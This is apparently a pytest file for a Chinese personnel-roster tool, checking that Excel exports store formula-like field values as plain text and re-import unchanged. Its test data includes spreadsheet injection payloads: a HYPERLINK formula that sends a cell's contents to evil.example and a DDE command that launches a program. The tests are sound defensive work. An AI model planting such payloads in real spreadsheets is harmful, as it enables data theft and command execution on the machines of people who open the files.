"""Hostile and careless Excel files: formulas in exported text, bombs, wrong formats (issue 9)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl

from cadre_desk.services.context import ServiceContext
from cadre_desk.transfer import activity, roster

FORMULAS = {
    "post": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "notes": "=cmd|' /C calc'!A0",
    "native_place": "+浙江杭州",
    "professional_title": "-高级经济师",
    "speciality": "@SUM(1,2)",
}


def test_exported_text_that_looks_like_a_formula_is_text_and_reads_back_equal(  # type: ignore[no-untyped-def]
    ctx: ServiceContext, cadre_factory, tmp_path: Path
) -> None:
    cadre_factory("王建国", **FORMULAS)
    dest = tmp_path / "名册.xlsx"
    columns = ["name", "birth", "post", "notes", "native_place", "professional_title"]
    roster.export_roster(ctx, dest, columns=columns)
    with zipfile.ZipFile(dest) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(dest)  # formulas would read back as formulas here
    cells = {c.value: c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)}
    for column in ("post", "notes", "native_place", "professional_title"):
        cell = cells[FORMULAS[column]]
        assert cell.data_type == "s" and cell.quotePrefix
    book.close()
    _sheet, plan = roster.plan_roster(ctx, dest)
    assert plan.summary() == {"create": 0, "update": 0, "unchanged": 1, "rejected": 0}


def test_talk_export_writes_formula_text_as_text(ctx: ServiceContext, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "@x", "plain"])
    dest = tmp_path / "x.xlsx"
    roster.save_book(book, dest)
    with zipfile.ZipFile(dest) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    values = [c.value for c in openpyxl.load_workbook(dest, data_only=True).active[1]]
    assert values == ["=1+1", "@x", "plain"]
    assert activity.save_book is roster.save_book  # the client's other exports share the writer
